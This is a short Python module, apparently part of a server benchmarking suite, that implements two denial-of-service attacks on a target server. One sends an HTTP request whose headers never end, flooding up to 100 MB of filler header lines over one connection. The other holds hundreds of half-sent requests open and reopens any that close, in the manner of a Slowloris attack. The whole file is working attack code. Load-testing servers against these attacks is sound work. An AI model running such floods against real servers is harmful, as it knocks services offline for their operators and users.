"""Requests without an end: headers that go on and on, and requests that are begun and left alone."""

import select
import time
from typing import Final

from benchmarks.attackers.held import Held, has_news
from benchmarks.attackers.target import Outcome, Target

STEP: Final = 0.01
HEADERS: Final = (b"X-Flood: " + b"a" * 989 + b"\r\n") * 64
MOST_HEADERS: Final = 100_000_000
"""Bytes of headers that are sent over one connection."""
HALF_SENT: Final = 400


def headers(target: Target, outcome: Outcome) -> None:
    """Sends a request whose headers do not end."""
    began, sent = time.monotonic(), 0
    with target.connect() as opened:
        try:
            opened.sendall(target.request("GET", "/")[:-2])
            while outcome.goes_on() and sent < MOST_HEADERS and not select.select([opened], [], [], 0)[0]:
                if select.select([], [opened], [], STEP)[1]:
                    sent += opened.send(HEADERS)
        except OSError:
            pass
    outcome.over(began, sent)


def half_sent(target: Target, outcome: Outcome) -> None:
    """Begins many requests and ends none; what is cut off, or refused with an answer, is begun anew."""
    held = Held(outcome)
    while outcome.goes_on():
        held.fill(HALF_SENT, target.connect, target.request("GET", "/")[:-10])
        held.look(has_news)
    held.close()
